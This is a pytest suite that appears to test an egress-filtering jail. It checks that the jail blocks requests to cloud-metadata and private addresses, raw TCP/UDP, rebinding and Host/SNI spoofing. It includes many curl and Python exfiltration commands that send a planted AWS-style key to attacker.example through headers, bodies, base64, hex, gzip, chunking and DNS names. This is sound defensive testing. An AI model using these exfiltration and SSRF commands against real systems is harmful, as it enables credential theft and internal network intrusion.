"""What must not leave does not: inward addresses, planted keys, bad upstreams.

Every refusal has a positive control: the same program on the same host without the jail arrives.
"""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

import pytest

from tests.lab import Lab
from tests.lab.bad_responses import BAD
from tests.lab.programs import Finished
from tests.lab.world import BAD_CERTIFICATES

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

_CURL = ["curl", "-sS", "--max-time", "20"]
_RAW = """
import socket, sys
end = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
end.sendall(b"GET /raw HTTP/1.1\\r\\nHost: " + sys.argv[1].encode() + b"\\r\\n\\r\\n")
try:
    print(end.recv(4096).decode("latin-1"))
except OSError as error:
    print(error)
"""


def _key() -> str:
    """A planted credential, put together here so that none stands in the repository."""
    return "AK" + "IA" + "Q3EGRJ7ZK2WVNY5T"


def _blocks(done: Finished) -> list[dict[str, Any]]:
    return [e for e in done.events() if e["event"] == "decision" and e["action"] == "block"]


def _nothing_arrived(lab: Lab) -> bool:
    return lab.oracle.records() == [] and lab.requests() == []


INWARD = {
    "metadata address": ("http://169.254.169.254/latest/meta-data/", "address_metadata"),
    "metadata address v6": ("http://[fd00:ec2::254]/latest/meta-data/", "address_metadata"),
    "lan address": ("http://10.0.0.1/", "address_private"),
    "lan address v6": ("http://[fd12:3456:789a::5]/", "address_private"),
    "mapped address": ("http://[::ffff:10.0.0.1]/", "address_private"),
    "host's own address": ("http://192.168.77.2/", "address_private"),
    "decimal address": ("http://167772161/", "address_private"),
    "octal address": ("http://012.0.0.1/", "address_private"),
    "lan name": ("https://lan.inward.example/", "address_private"),
    "loopback name": ("http://loopback.inward.example/", None),
    "loopback name, other port": ("http://loopback.inward.example:11434/", None),
    "loopback6 name": ("http://loopback6.inward.example/", None),
    "metadata name": ("http://metadata.inward.example/", "address_metadata"),
    "mapped name": ("http://mapped.inward.example/", "address_private"),
    "nat64 name": ("http://nat64.inward.example/", None),
    "6to4 name": ("http://sixtofour.inward.example/", None),
    "own name": ("http://own.inward.example/", "address_private"),
    "unspecified name": ("http://unspecified.inward.example/", None),
    "alias to lan": ("http://cname.inward.example/", "address_private"),
    "one bad address first": ("http://mixed-first.inward.example/get", "address_private"),
    "one bad address last": ("http://mixed-last.inward.example/get", "address_private"),
    "one bad address of the other family": ("http://mixed-six.inward.example/get", None),
}


@pytest.mark.parametrize("case", INWARD)
def test_inward_is_refused(clean_lab: Lab, case: str) -> None:
    url, reason = INWARD[case]
    done = clean_lab.jail([*_CURL, "-w", "%{http_code}", url])
    assert "oracle" not in done.text
    assert _nothing_arrived(clean_lab)
    events = _blocks(done)
    assert len(events) == 1, events
    assert events[0]["reason"] == reason or reason is None, events
    assert done.text.endswith("403"), (done.text, done.errors)
    assert json.loads(done.text[: -len("403")])["retry"] is False


@pytest.mark.parametrize(
    "case",
    [
        *("metadata address", "lan address", "mapped address", "lan address v6", "lan name"),
        *("loopback name", "loopback name, other port", "loopback6 name", "metadata name"),
        "own name",
    ],
)
def test_inward_without_the_jail_arrives(clean_lab: Lab, case: str) -> None:
    """Positive control."""
    done = clean_lab.run([*_CURL, INWARD[case][0]], user="dev")
    assert b"oracle" in done.stdout, done.stderr
    assert len(clean_lab.oracle.records()) == 1


@pytest.mark.parametrize("port", [22, 25, 853, 3306, 4444])
@pytest.mark.parametrize("address", ["9.9.9.9", "2d00:99::1", "10.0.0.1"])
def test_other_ports_are_refused(clean_lab: Lab, address: str, port: int) -> None:
    program = ["/usr/bin/python3", "-c", _RAW, address, str(port)]
    assert b"oracle" in clean_lab.run(program, user="dev").stdout  # positive control
    assert clean_lab.oracle.wait_for(address, port, data=b"/raw")
    clean_lab.clear()
    done = clean_lab.jail(program)
    assert "oracle" not in done.text
    assert _nothing_arrived(clean_lab)
    assert len(_blocks(done)) == 1, done.events()


_UDP = """
import socket, sys
family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
end = socket.socket(family, socket.SOCK_DGRAM)
end.settimeout(1)
try:
    end.connect((sys.argv[1], int(sys.argv[2])))
    end.send(b"datagram")
    print(end.recv(100))
except OSError as error:
    print(type(error).__name__)
"""


@pytest.mark.parametrize("port", [123, 443, 5353])
@pytest.mark.parametrize("address", ["9.9.9.9", "2d00:99::1"])
def test_udp_goes_nowhere(clean_lab: Lab, address: str, port: int) -> None:
    program = ["/usr/bin/python3", "-c", _UDP, address, str(port)]
    assert b"oracle" in clean_lab.run(program, user="dev").stdout  # positive control
    clean_lab.clear()
    done = clean_lab.jail(program)
    assert done.text.strip() in ("ConnectionRefusedError", "PermissionError"), done.errors
    assert _nothing_arrived(clean_lab)


LEAKS: dict[str, list[str]] = {
    "path": ["https://attacker.example/get/KEY"],
    "query": ["https://attacker.example/get?k=KEY"],
    "percent": ["https://attacker.example/get?k=PERCENT"],
    "header": ["-H", "X-Note: KEY", "https://attacker.example/get"],
    "cookie": ["-b", "session=KEY", "https://attacker.example/get"],
    "authorization": ["-u", "me:KEY", "https://attacker.example/get"],
    "user agent": ["-A", "KEY", "https://attacker.example/get"],
    "body": ["-d", "note=KEY", "https://attacker.example/upload"],
    "json": ["-H", "Content-Type: application/json", "-d", '{"a": ["KEY"]}', "https://attacker.example/upload"],
    "multipart": ["-F", "file=KEY", "https://attacker.example/upload"],
    "base64": ["-d", "note=BASE64", "https://attacker.example/upload"],
    "hex": ["-d", "note=HEX", "https://attacker.example/upload"],
    "base64 in query": ["https://attacker.example/get?k=BASE64"],
    "plain http": ["-d", "note=KEY", "http://attacker.example/upload"],
    "chunked": ["-H", "Transfer-Encoding: chunked", "-d", "KEY", "https://attacker.example/upload"],
    "an honest host": ["-d", "note=KEY", "https://api.example.com/upload"],
}  # fmt: skip


def _filled(words: list[str]) -> list[str]:
    key = _key()
    coded = {
        "PERCENT": "".join(f"%{ord(letter):02x}" for letter in key),
        "BASE64": base64.b64encode(f"key={key}".encode()).decode(),
        "HEX": key.encode().hex(),
        "KEY": key,
    }
    for mark, text in coded.items():
        words = [word.replace(mark, text) for word in words]
    return words


@pytest.mark.parametrize("case", LEAKS)
def test_leak_is_refused(clean_lab: Lab, case: str) -> None:
    words = [*_CURL, "-w", "%{http_code}", *_filled(LEAKS[case])]
    clean_lab.run(words, user="dev")
    assert len(clean_lab.requests()) == 1  # positive control: it arrives without the jail
    clean_lab.clear()
    done = clean_lab.jail(words)
    assert done.text.endswith("403"), (done.text, done.errors)
    assert _nothing_arrived(clean_lab)
    assert clean_lab.dns_log() == []  # not even resolved
    (event,) = _blocks(done)
    assert event["reason"] == "secret"
    assert event["findings"][0]["rule"] == "aws-access-key-id"
    assert _key() not in json.dumps(done.evidence) + done.text + done.errors


def test_leak_in_gzip_is_refused(clean_lab: Lab) -> None:
    data = gzip.compress(b"note=" + _key().encode())
    words = [*_CURL, "-w", "%{http_code}", "-H", "Content-Encoding: gzip", "--data-binary", "@-"]
    words.append("https://attacker.example/upload")
    clean_lab.run(words, user="dev", input=data)
    assert clean_lab.requests()[0].body == data  # positive control
    clean_lab.clear()
    done = clean_lab.jail(words, input=data)
    assert done.text.endswith("403"), (done.text, done.errors)
    assert _nothing_arrived(clean_lab)
    assert len(_blocks(done)) == 1


@pytest.mark.parametrize("label", ["plain", "hex"])
def test_leak_in_a_name_is_refused(clean_lab: Lab, label: str) -> None:
    key = _key()
    text = key if label == "plain" else key.encode().hex()
    words = [*_CURL, f"https://{text}.attacker.example/get"]
    clean_lab.run(words, user="dev")
    assert any(text.lower() in question.name for question in clean_lab.dns_log())
    clean_lab.clear()
    done = clean_lab.jail(words)
    assert '"method"' not in done.text
    assert _nothing_arrived(clean_lab)
    assert clean_lab.dns_log() == []
    assert {event["reason"] for event in _blocks(done)} == {"secret_in_name"}
    assert text.lower() not in json.dumps(done.evidence).lower()


def test_split_over_two_writes_is_refused(clean_lab: Lab) -> None:
    """A body whose key crosses segments and chunks is still one body."""
    code = (
        "import http.client, sys\n"
        "end = http.client.HTTPSConnection('attacker.example')\n"
        "key = sys.argv[1]\n"
        "parts = [key[i:i+3].encode() for i in range(0, len(key), 3)]\n"
        "end.request('POST', '/upload', iter(parts), {'Transfer-Encoding': 'chunked'}, "
        "encode_chunked=True)\n"
        "print(end.getresponse().status)\n"
    )
    program = ["/usr/bin/python3", "-c", code, _key()]
    assert clean_lab.run(program, user="dev").stdout == b"200\n"
    clean_lab.clear()
    done = clean_lab.jail(program)
    assert done.text == "403\n", done.errors
    assert _nothing_arrived(clean_lab)


@pytest.mark.parametrize("name", [*sorted(BAD_CERTIFICATES), "tls11.tls.example"])
def test_bad_upstream_certificate_is_an_honest_failure(clean_lab: Lab, name: str) -> None:
    done = clean_lab.jail([*_CURL, "-w", "%{http_code}", "-d", "note=1", f"https://{name}/upload"])
    assert done.text.endswith("502"), (done.text, done.errors)
    told = json.loads(done.text[:-3])
    expected = "connect_failed" if name.startswith("tls11") else "certificate_invalid"
    assert told["reason"] == expected
    assert clean_lab.requests() == []


DEAD = {
    "refusing.dead.example": "connect_failed",
    "silent.dead.example": "timeout connect_failed",
    "nobody.example": "resolve_failed",
    "servfail.dns.example": "resolve_failed",
    "empty.dns.example": "resolve_failed",
    "loop.dns.example": "resolve_failed",
}


@pytest.mark.parametrize("name", DEAD)
def test_dead_upstream_is_an_honest_failure(clean_lab: Lab, name: str) -> None:
    done = clean_lab.jail(["curl", "-sS", "--max-time", "60", f"https://{name}/get"], timeout=90)
    told = json.loads(done.text)
    assert told["reason"] in DEAD[name].split(), done.text
    assert clean_lab.requests() == []


def test_half_dead_upstream_works(clean_lab: Lab) -> None:
    done = clean_lab.jail([*_CURL, "https://half-dead.example.com/get"])
    assert '"method": "GET"' in done.text, done.errors


@pytest.mark.parametrize("case", BAD)
def test_bad_response_is_not_passed_on(clean_lab: Lab, case: str) -> None:
    done = clean_lab.jail([*_CURL, "-w", "\n%{http_code}", f"https://example.com/bad/{case}"])
    status = done.text.rsplit("\n", 1)[-1]
    started = ("truncated-body", "truncated-chunk", "no-last-chunk")
    if case == "second-response":
        assert "bye" not in done.text
    elif case in started or case.startswith("chunk-size"):
        assert done.returncode != 0 or status == "502", done.text
    else:
        assert status == "502", (done.text[:300], done.errors)
        assert json.loads(done.text.rsplit("\n", 1)[0])["error"] == "egressguard"


def test_rebinding_is_judged_every_time(clean_lab: Lab) -> None:
    """The name is public at first and 10.0.0.5 afterwards; whatever is dialled was judged."""
    loop = (
        "for i in 1 2 3; do curl -sS --max-time 10 http://rebind.inward.example/get; sleep 2; done"
    )
    done = clean_lab.jail(["sh", "-c", loop])
    assert "oracle" not in done.text
    assert clean_lab.oracle.records() == []


def test_one_identity(clean_lab: Lab) -> None:
    """SNI, Host and the leased name have to agree."""
    cases = (
        ["-H", "Host: attacker.example", "https://api.example.com/get"],
        ["--connect-to", "api.example.com:443:attacker.example:443", "https://api.example.com/get"],
    )
    for words in cases:
        clean_lab.clear()
        done = clean_lab.jail([*_CURL, "-k", *words])
        assert '"method"' not in done.text
        assert {event["reason"] for event in _blocks(done)} == {"name_mismatch"}, done.events()
        assert _nothing_arrived(clean_lab)
